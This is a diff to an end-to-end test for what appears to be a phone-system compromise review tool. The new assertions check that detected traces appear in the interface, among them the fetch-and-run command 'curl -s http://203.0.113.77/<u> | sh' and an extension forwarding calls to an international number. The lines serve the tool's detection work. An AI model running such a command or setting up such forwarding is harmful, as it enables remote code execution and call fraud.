@@ -109,6 +109,14 @@ it('from the button to the end: nothing is to be remembered', { timeout: 300_000
   await expect.poll(() => step('change').textContent()).not.toContain('Said by');
 
   await unfold('look');
+  await expect.poll(() => step('look').textContent()).toContain('13 things are new since then, or not known here.');
+  await expect.poll(() => step('look').textContent()).toContain('203 (Peter Vogel) forwards to 00252612000111');
+  await expect.poll(() => step('look').textContent()).toContain('curl -s http://203.0.113.77/<u> | sh');
+  await shot('traces');
+  await expect.poll(() => objections()).toEqual([]);
+  await press(step('look'), /^This is ours AMI user/);
+  await expect.poll(() => step('look').textContent()).toContain('12 things are new');
+  await expect.poll(() => step('look').textContent()).toContain('Known as yours, or explained: 1');
   await press(step('look'), 'Look at the calls');
   await expect.poll(() => step('look').textContent()).toContain('2 accounts called otherwise than before');
   await press(step('look'), 'I have looked at all of that');
@@ -167,6 +175,7 @@ for (const [language, width] of [
     }
     await page.locator('.mscl-calls input').first().waitFor();
     await page.locator('.mscl-evidence input').first().waitFor();
+    await page.locator('.mscl-traces-list').first().waitFor();
     await page.locator('#mscl-room-tell textarea').waitFor();
     await page.locator('#mscl-room-done > summary').click();
     await page.locator('.mscl-room-note textarea').waitFor();
